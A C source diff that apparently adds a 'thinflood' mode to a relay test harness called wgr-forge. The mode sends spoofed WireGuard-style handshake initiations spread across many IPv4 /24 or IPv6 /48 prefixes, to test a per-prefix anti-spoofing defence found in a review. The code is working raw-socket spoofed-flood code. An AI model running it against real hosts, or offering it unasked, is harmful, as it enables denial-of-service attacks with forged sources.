@@ -91,6 +91,14 @@
  * a relay that has forgotten it: a prefix's memory of sources filled by a
  * spoofer (a fifth review, T1). Needs CAP_NET_RAW. Exits 0.
  *
+ *   wgr-forge thinflood ADDR PORT SECONDS PPS SPOOF_BASE NPREFIXES PUBKEY
+ *
+ * srcflood spread thin: each initiation from the next of NPREFIXES spoofed
+ * prefixes, one endpoint in each (SPOOF_BASE's address in the next IPv4 /24 or
+ * IPv6 /48 up, port 40000). Each prefix then holds one source, so that a few
+ * real sources in any other prefix hold the most (the second review of
+ * session 20, F3). Needs CAP_NET_RAW. Exits 0.
+ *
  *   wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM [SECONDS]
  *
  * A spoofer's staging: socket A initiates to TARGET; a response naming VICTIM
@@ -882,6 +890,72 @@ static int srcflood(int argc, char **argv)
 	return 0;
 }
 
+/*
+ * Move @ss (an IPv4 or IPv6 address) @k prefixes up from @base: IPv4 /24s (its
+ * top three bytes count), IPv6 /48s (bytes 4 and 5 count). False if that
+ * leaves the family's prefix bits.
+ */
+static bool prefix_step(struct sockaddr_storage *ss, const struct sockaddr_storage *base, long k)
+{
+	*ss = *base;
+	if (ss->ss_family == AF_INET) {
+		struct in_addr *a = &((struct sockaddr_in *)ss)->sin_addr;
+		uint32_t h = ntohl(a->s_addr);
+
+		if ((h >> 8) + (uint32_t)k > 0xffffff)
+			return false;
+		a->s_addr = htonl(h + ((uint32_t)k << 8));
+		return true;
+	}
+	uint8_t *b = ((struct sockaddr_in6 *)ss)->sin6_addr.s6_addr;
+	uint32_t p = (uint32_t)b[4] << 8 | b[5];
+
+	if (p + (uint32_t)k > 0xffff)
+		return false;
+	p += (uint32_t)k;
+	b[4] = (uint8_t)(p >> 8);
+	b[5] = (uint8_t)p;
+	return true;
+}
+
+/* Initiations without mac2 for @pub, one spoofed endpoint in each of many prefixes. */
+static int thinflood(int argc, char **argv)
+{
+	struct sockaddr_storage base;
+	struct timespec next;
+	struct spoofer s;
+	uint8_t pub[32], msg[148];
+	long seconds, pps, nprefixes, sent = 0;
+
+	if (argc != 9 || (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
+	    (nprefixes = strtol(argv[7], NULL, 10)) <= 0 || nprefixes > 65536 ||
+	    !key_from_base64(pub, argv[8])) {
+		fprintf(stderr, "usage: wgr-forge thinflood ADDR PORT SECONDS(1..3600) "
+				"PPS(1..10000) SPOOF_BASE NPREFIXES(1..65536) PUBKEY\n");
+		return 2;
+	}
+	if (spoofer_open(&s, argv[6], "40000", argv[2], argv[3]))
+		return 1;
+	base = s.src;
+	if (!prefix_step(&s.src, &base, nprefixes - 1)) {
+		fprintf(stderr, "wgr-forge: thinflood: %s plus %ld prefixes leaves the address space\n",
+			argv[6], nprefixes);
+		return 2;
+	}
+	clock_gettime(CLOCK_MONOTONIC, &next);
+	for (long k = 0; k < seconds * pps; k++) {
+		prefix_step(&s.src, &base, k % nprefixes);
+		make_initiation(msg, pub);
+		if (!spoofer_send(&s, msg, sizeof(msg)))
+			sent++;
+		next_tick(&next, pps);
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
+	}
+	printf("thinflood: %ld initiations from %ld prefixes\n", sent, nprefixes);
+	return 0;
+}
+
 static int spoofstage(int argc, char **argv)
 {
 	struct sockaddr_storage to;
@@ -1365,6 +1439,8 @@ int main(int argc, char *argv[])
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "srcflood"))
 		return srcflood(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "thinflood"))
+		return thinflood(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "steal"))
@@ -1428,6 +1504,8 @@ int main(int argc, char *argv[])
 				"       wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]\n"
 				"       wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY]\n"
 				"       wgr-forge srcflood ADDR PORT SECONDS PPS SPOOF_BASE NADDR NPORTS "
+				"PUBKEY\n"
+				"       wgr-forge thinflood ADDR PORT SECONDS PPS SPOOF_BASE NPREFIXES "
 				"PUBKEY\n"
 				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
 				"PUB_VICTIM [SECONDS]\n"
